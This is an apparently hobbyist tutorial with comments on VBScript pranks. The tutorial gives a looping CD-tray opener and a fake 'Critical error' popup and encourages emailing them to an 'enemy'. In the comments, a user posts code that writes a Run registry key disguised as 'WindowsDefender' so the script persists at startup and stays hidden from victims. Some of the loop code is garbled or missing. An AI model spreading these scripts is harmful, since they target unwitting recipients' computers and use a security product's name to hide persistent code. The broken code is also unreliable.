Visual Basic Scripting Tricks (2)


Introduction: Visual Basic Scripting Tricks (2)

visual basic scripting is scripting that has the potential to do any physical function that a computer has. i shall be showing two tricks of vbs

vbs files by the way, are saved as w/e.vbs (in the sense of w/e meaning whatever you want, not literally w/e). they similar to batch files, just different functions

Step 1: Continous Disk Opener

this will be a continuous disk opener, open notepad and write:

Set oWMP = CreateObject("WMPlayer.OCX.7" )
Set colCDROMs = oWMP.cdromCollectionif colCDROMs.Count >= 1 then
For i = 0 to colCDROMs.Count - 1
Next ' cdrom
End If


save as w/e.vbs. send as an email attachment, and laugh at your enemy hahaha

Step 2: ERROR!!!

To make it appear as error, error, error, write the following:

lol = msgbox ("Critical error!" ,16, "ERROR")

(copy and paste 100 times, save as a .vbs file)Step 3: Conclusion

well, that's all i know about vb scripting, if you hav any suggestion, please tell me and i shall change it



    • Water Contest

      Water Contest
    • Creative Misuse Contest

      Creative Misuse Contest
    • Clocks Contest

      Clocks Contest

    18 Discussions

    any script to copy the file to the start up folder automatically?lol i love the disc one, does it stop if you delete the file or restart the pc? idont know much aboutvb

    2 replies

    You could just type

    lol=msgbox("Critical Error",16,"ERROR")

    for a continuous error message

    Dim moo1
    Set WshShell = WScript.CreateObject("WScript.Shell")

    'WshShell. RegWrite"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\WindowsDefender", moo1, "REG_SZ"

    adds it to the registry for start up

    Yes it stops, but you can put this in Startup folder next logon the file itself will be executed.

    1 reply

    Dim moo1
    Set WshShell= WScript.CreateObject("WScript.Shell")

    WshShell. RegWrite"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\WindowsDefender", moo1,"REG_SZ"

    the above code will automatically add this to the registry for startup, most nontechie people would find it mega hard to find it, plus i named the key WindowsDefender so its unlikly it will get picked up quickly as a false registry entry

    lol i had to hold dowwn the power button to make it stop

    Oy, you kin make something more useful, like a web browser, or a autoloading virus thingy. This is a BIT simple, but nice job.

    will this work:

    sub pwn()
    lol = msgbox ("Critical error!" ,16, "ERROR")
    end subadd "Do" to the top and "Loop" to the bottom, it will keep repeating until you shut down your computer or go to task manager - processes - and end proccess "wscript.exe"